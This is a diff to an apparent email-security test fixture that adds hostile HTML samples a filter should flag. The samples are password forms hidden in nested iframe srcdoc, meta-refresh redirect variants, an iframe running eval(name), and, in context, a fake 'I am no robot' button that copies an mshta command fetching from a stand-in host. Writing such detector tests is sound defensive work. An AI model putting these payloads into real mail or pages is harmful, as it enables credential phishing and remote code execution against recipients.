@@ -91,6 +91,8 @@ export const formMails: readonly HostileMail[] = [
   },
   ...[
     '<form action="https://x.example"><input type="&#112;assword"></form>',
+    '<iframe srcdoc="<form action=https://x.example><input type=password></form>"></iframe>',
+    `<iframe srcdoc="<iframe srcdoc='&amp;lt;input type=password&amp;gt;'></iframe>"></iframe>`,
     '<input name=mail><input name=password style="-webkit-text-security:disc">',
     '<form method=post action="https://x.example"><input name=email value="ann@acme.example"><input name=pass></form>',
   ].map((page) => ({ name: `a page that asks for a password: ${page}`, mail: withPage(page), is: login })),
@@ -176,6 +178,9 @@ export const formMails: readonly HostileMail[] = [
     "<script>s.src='https://x.example/a.js'</script>",
     "<meta content='0; url=https://x.example' http-equiv='refresh'>",
     '<meta http-equiv="&#114;efresh" content="0;url=https://x.example">',
+    '<meta http-equiv=refresh content="1;https://x.example">',
+    '<meta http-equiv=refresh content="0, \'https://x.example\'">',
+    '<iframe srcdoc="<script>eval(name)</script>"></iframe>',
     '<iframe src="data:text/plain;base64,PGZvcm0+"></iframe>',
     '<button onclick="navigator.clipboard.writeText(\'mshta https://x.example\')">I am no robot</button>',
   ].map((page) => ({
